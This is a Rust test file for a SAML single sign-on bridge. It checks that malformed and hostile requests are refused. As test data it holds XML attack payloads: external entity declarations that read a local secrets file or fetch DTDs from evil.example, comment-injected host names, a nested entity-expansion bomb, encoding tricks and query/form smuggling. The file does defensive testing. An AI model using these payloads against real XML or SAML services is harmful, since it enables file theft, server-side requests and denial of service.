//! Messages that are built to cost, to reach out, or to be read differently by two readers on the way.

use super::{bring, signed_in};
use crate::bridge::{Bridge, ZOOM, keys::zoom_key, request::post};

#[tokio::test]
async fn r03_r04_comments_instructions_and_document_types_are_refused() {
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let secret = bridge.folder.path().join("people.toml");
    let file = format!("file://{}", secret.display());
    for signed in [false, true] {
        let request = bridge.request();
        let xml = if signed {
            request.signed_xml(zoom_key())
        } else {
            request.xml()
        };
        let before = |what: &str| format!("{what}{xml}");
        let entity =
            |declaration: &str| format!("<!DOCTYPE r [{declaration}]>{}", xml.replace(ZOOM, "&x;"));
        for hostile in [
            xml.replace(ZOOM, "univ-montp3-fr.zoom.us<!-- -->.evil.example"),
            xml.replace(ZOOM, "univ-montp3-<!-- -->fr.zoom.us"),
            before("<!-- -->"),
            format!("{xml}<!-- -->"),
            xml.replace(ZOOM, "univ-montp3-<?x y?>fr.zoom.us"),
            before("<?xml-stylesheet href='https://evil.example/'?>"),
            before("<!DOCTYPE samlp:AuthnRequest>"),
            before("<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"https://evil.example/x.dtd\">"),
            entity(&format!("<!ENTITY x SYSTEM \"{file}\">")),
            entity(&format!("<!ENTITY x \"{ZOOM}\">")),
            entity("<!ENTITY % p SYSTEM \"https://evil.example/x\"> %p;"),
            entity("<!ENTITY a \"&b;&b;&b;\"><!ENTITY b \"ha\"><!ENTITY x \"&a;&a;&a;\">"),
            before("<?xml version=\"1.0\" encoding=\"UTF-7\"?>"),
        ] {
            let page = bring(&mut browser, &hostile).await;
            page.stops(400, "request-unreadable");
        }
        let utf16: Vec<u8> = [0xfeff]
            .into_iter()
            .chain(before("<!DOCTYPE x>").encode_utf16())
            .flat_map(u16::to_le_bytes)
            .collect();
        let page = browser
            .arrive_by_post("/saml/sso", &post(&utf16, None))
            .await;
        page.stops(400, "request-unreadable");
    }
    bridge.still_works().await;
}

#[tokio::test]
async fn r11_breach_of_iip_sso02_query_and_form_never_meet() {
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let request = bridge.request();
    let query = request.redirect(Some("r"));
    // A POST whose request stands in the query has none.
    let page = browser.arrive_by_post(&query, "").await;
    page.stops(400, "request-unreadable");
    let page = browser.arrive_by_post(&query, "RelayState=x").await;
    page.stops(400, "request-unreadable");
    // What stands in the query beside a form is not read.
    let page = browser
        .arrive_by_post("/saml/sso?RelayState=evil", &request.post(None))
        .await;
    assert_eq!(page.answer().relay_state, None);
    // Signature parameters of the other binding beside a form.
    for extra in ["&SigAlg=x", "&Signature=x", "&SAMLEncoding=x"] {
        let form = format!("{}{extra}", bridge.request().post(None));
        let page = browser.arrive_by_post("/saml/sso", &form).await;
        page.stops(400, "request-unreadable");
    }
}

#[tokio::test]
async fn r122_a_body_that_is_too_large_or_no_form_is_refused() {
    use axum::{body::Body, http::Method};
    let bridge = Bridge::new();
    let mut browser = signed_in(&bridge).await;
    let large = post(&vec![b' '; 400 * 1024], None);
    let page = browser.arrive_by_post("/saml/sso", &large).await;
    page.stops(413, "request-too-large");
    let page = browser.arrive_by_post("/logout", &"x".repeat(2_000)).await;
    page.stops(400, "form-forged");
    let login = {
        let request = bridge.request().with("ForceAuthn", "true");
        browser.arrive(&request.redirect(None)).await
    };
    let form = login.filled("anne.dupont", &"x".repeat(40_000));
    browser
        .submit(&login, &form)
        .await
        .stops(413, "request-too-large");
    for (kind, body) in [
        ("text/plain", bridge.request().post(None).into_bytes()),
        ("multipart/form-data; boundary=x", b"--x--".to_vec()),
        ("application/json", b"{}".to_vec()),
        ("application/x-www-form-urlencoded", vec![0xff, 0xfe]),
    ] {
        let request = browser
            .plain("/saml/sso")
            .method(Method::POST)
            .header("content-type", kind)
            .body(Body::from(body))
            .unwrap();
        browser
            .exchange(request)
            .await
            .stops(400, "request-unreadable");
    }
    bridge.still_works().await;
}
